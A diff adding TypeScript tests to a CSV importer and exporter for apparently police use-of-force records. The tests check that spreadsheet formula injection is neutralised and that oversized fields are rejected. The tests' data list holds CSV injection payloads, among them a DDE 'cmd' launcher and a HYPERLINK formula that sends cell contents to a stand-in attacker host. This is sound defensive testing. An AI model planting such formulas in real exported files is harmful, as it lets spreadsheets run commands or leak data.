@@ -530,4 +530,68 @@ describe('writing a file', () => {
   it('refuses a row that is not 271 values', () => {
     expect(() => writeMetCsv([['2019-04-08']])).toThrow(/Row 1 has 1 values; the Met layout has 271 columns/);
   });
+
+  // Issue 10: imported `=cmd|' /C calc'!A0` and `=HYPERLINK(…)` came out of `export met-uof` verbatim.
+  const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|x', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+
+  it.each(FORMULAS)('writes %j with a quote before it, so no spreadsheet runs it', (formula) => {
+    const text = writeMetCsv([withValue(ROWS[0]!, 'SubjectNatureOfInjury', formula)]);
+    const [, row] = parse(text, { relax_quotes: true }) as string[][];
+    expect(row![at('SubjectNatureOfInjury')]).toBe(`'${formula}`);
+    // Read back by Cedar, the cell is what was imported: the quote is only for spreadsheets.
+    expect(readMetFile(utf8(text)).rows[0]?.report.content.injuries.subjectInjuryNature).toBe(formula.trim());
+  });
+
+  it('neutralises every column, and leaves rows with no formula as they were', () => {
+    const row = withValue(withValue(ROWS[0]!, 'Borough', '=1+1'), 'CED Device Serial No', '@x');
+    const [, written] = parse(writeMetCsv([row, ROWS[1]!])) as string[][];
+    expect(written![at('Borough')]).toBe("'=1+1");
+    expect(written![at('CED Device Serial No')]).toBe("'@x");
+    expect(writeMetCsv([ROWS[1]!])).toBe(`${SAMPLE.toString('utf8').split('\r\n')[0]}\r\n${ROWS[1]!.join(',')}\r\n`);
+  });
+});
+
+describe('limits', () => {
+  const TEN_MB = 10 * 1024 * 1024;
+  const firedRow = ROWS.find((r) => r[at('CED Fired')] === 'Yes')!;
+
+  it('rejects a 10 MB cartridge number by line and column, quoting 100 characters of it', () => {
+    const file = readMetFile(utf8(csv([HEADER, withValue(firedRow, 'CED Fired Cartridge Number', '7'.repeat(TEN_MB)), ROWS[1]!])));
+    expect(file.rows.map((r) => r.line)).toEqual([3]);
+    expect(file.errors).toEqual([{ line: 2, column: 'CED Fired Cartridge Number', message: `"${'7'.repeat(100)}…" (10,485,760 characters) is too long: this column holds at most 30 characters` }]);
+  });
+
+  it.each([
+    ['SingleCrewed', 100],
+    ['Borough', 100],
+    ['CED Device Serial No', 30],
+    ['SubjectNatureOfInjury', 10_000],
+  ] as const)('holds %s to %i characters', (column, limit) => {
+    const fits = readMetFile(utf8(csv([HEADER, withValue(firedRow, column, column === 'SingleCrewed' ? 'Yes' : 'x'.repeat(limit))])));
+    expect(fits.errors).toEqual([]);
+    const over = readMetFile(utf8(csv([HEADER, withValue(firedRow, column, 'x'.repeat(limit + 1))])));
+    expect(over.errors).toEqual([{ line: 2, column, message: expect.stringContaining(`is too long: this column holds at most ${limit} characters`) }]);
+  });
+
+  it('never echoes a huge value whole, in a message or in the values kept for a rejects file', () => {
+    const rejected: MetRow[] = [];
+    forEachMetRow(utf8(csv([HEADER, withValue(firedRow, 'SingleCrewed', 'Maybe'.repeat(TEN_MB / 5))])), (r) => {
+      if (!r.ok) rejected.push(r);
+    });
+    expect(rejected).toHaveLength(1);
+    const r = rejected[0]!;
+    if (r.ok) throw new Error('expected a rejected row');
+    expect(r.errors[0]!.message.length).toBeLessThan(200);
+    expect(Math.max(...r.values.map((v) => v.length))).toBeLessThanOrEqual(1000);
+  });
+
+  it('refuses a header with a huge column in a short message', () => {
+    const huge = readMetFile(utf8(csv([[...HEADER, 'y'.repeat(TEN_MB)], [...ROWS[0]!, '']])));
+    expect(huge.problem).not.toBeNull();
+    expect(huge.problem!.message.length).toBeLessThan(400);
+    // A long unknown column name (under the length of a record) is quoted cut short.
+    const long = readMetFile(utf8(csv([[...HEADER, 'y'.repeat(5000)], [...ROWS[0]!, '']])));
+    expect(long.problem!.message).toContain(`"${'y'.repeat(100)}…" (5,000 characters)`);
+    expect(long.problem!.message.length).toBeLessThan(400);
+  });
 });
